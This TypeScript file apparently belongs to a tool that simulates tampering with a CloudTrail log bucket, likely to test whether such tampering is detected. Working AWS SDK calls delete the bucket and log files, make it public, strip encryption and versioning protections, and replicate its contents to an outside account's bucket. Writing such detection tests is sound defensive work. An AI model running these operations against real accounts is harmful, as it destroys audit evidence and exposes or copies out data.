import * as s3 from '@aws-sdk/client-s3';
import type { OwnAttack, OwnAttacks } from './attack';

const onBucket =
  (send: (client: s3.S3Client, Bucket: string) => Promise<unknown>): OwnAttack =>
  (hands, { bucket }) =>
    send(hands.s3, bucket);

export const BUCKET_ATTACKS: OwnAttacks = {
  'log-bucket-deleted': onBucket((client, Bucket) => client.send(new s3.DeleteBucketCommand({ Bucket }))),
  'log-bucket-policy-changed': onBucket((client, Bucket) =>
    client.send(
      new s3.PutBucketPolicyCommand({
        Bucket,
        Policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            { Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${Bucket}/*` },
          ],
        }),
      }),
    ),
  ),
  'log-bucket-policy-deleted': onBucket((client, Bucket) => client.send(new s3.DeleteBucketPolicyCommand({ Bucket }))),
  'log-bucket-lifecycle-changed': onBucket((client, Bucket) =>
    client.send(
      new s3.PutBucketLifecycleConfigurationCommand({
        Bucket,
        LifecycleConfiguration: {
          Rules: [{ ID: 'expire', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } }],
        },
      }),
    ),
  ),
  'log-bucket-versioning-suspended': onBucket((client, Bucket) =>
    client.send(new s3.PutBucketVersioningCommand({ Bucket, VersioningConfiguration: { Status: 'Suspended' } })),
  ),
  'log-bucket-mfa-delete-disabled': onBucket((client, Bucket) =>
    client.send(
      new s3.PutBucketVersioningCommand({
        Bucket,
        VersioningConfiguration: { Status: 'Enabled', MFADelete: 'Disabled' },
      }),
    ),
  ),
  'log-bucket-encryption-changed': onBucket((client, Bucket) =>
    client.send(
      new s3.PutBucketEncryptionCommand({
        Bucket,
        ServerSideEncryptionConfiguration: {
          Rules: [
            { ApplyServerSideEncryptionByDefault: { SSEAlgorithm: 'aws:kms', KMSMasterKeyID: 'alias/somebody-elses' } },
          ],
        },
      }),
    ),
  ),
  'log-bucket-encryption-deleted': onBucket((client, Bucket) =>
    client.send(new s3.DeleteBucketEncryptionCommand({ Bucket })),
  ),
  'log-bucket-acl-changed': onBucket((client, Bucket) =>
    client.send(new s3.PutBucketAclCommand({ Bucket, ACL: 'public-read' })),
  ),
  'log-bucket-ownership-changed': onBucket((client, Bucket) =>
    client.send(
      new s3.PutBucketOwnershipControlsCommand({
        Bucket,
        OwnershipControls: { Rules: [{ ObjectOwnership: 'ObjectWriter' }] },
      }),
    ),
  ),
  'log-bucket-public-access-block-changed': onBucket((client, Bucket) =>
    client.send(
      new s3.PutPublicAccessBlockCommand({ Bucket, PublicAccessBlockConfiguration: { BlockPublicPolicy: false } }),
    ),
  ),
  'log-bucket-public-access-block-deleted': onBucket((client, Bucket) =>
    client.send(new s3.DeletePublicAccessBlockCommand({ Bucket })),
  ),
  'log-file-deleted': ({ s3: client }, { bucket: Bucket, account }) =>
    client.send(new s3.DeleteObjectCommand({ Bucket, Key: `AWSLogs/${account}/CloudTrail/log.json.gz` })),
  'log-bucket-access-logging-changed': onBucket((client, Bucket) =>
    client.send(new s3.PutBucketLoggingCommand({ Bucket, BucketLoggingStatus: {} })),
  ),
  'log-bucket-replication-changed': onBucket((client, Bucket) =>
    client.send(
      new s3.PutBucketReplicationCommand({
        Bucket,
        ReplicationConfiguration: {
          Role: 'arn:aws:iam::999999999999:role/copy',
          Rules: [{ ID: 'copy', Status: 'Enabled', Destination: { Bucket: 'arn:aws:s3:::somebody-elses-bucket' } }],
        },
      }),
    ),
  ),
  'log-bucket-replication-deleted': onBucket((client, Bucket) =>
    client.send(new s3.DeleteBucketReplicationCommand({ Bucket })),
  ),
  'log-bucket-notification-changed': onBucket((client, Bucket) =>
    client.send(new s3.PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: {} })),
  ),
  'log-bucket-object-lock-changed': onBucket((client, Bucket) =>
    client.send(
      new s3.PutObjectLockConfigurationCommand({
        Bucket,
        ObjectLockConfiguration: { ObjectLockEnabled: 'Enabled' },
      }),
    ),
  ),
};
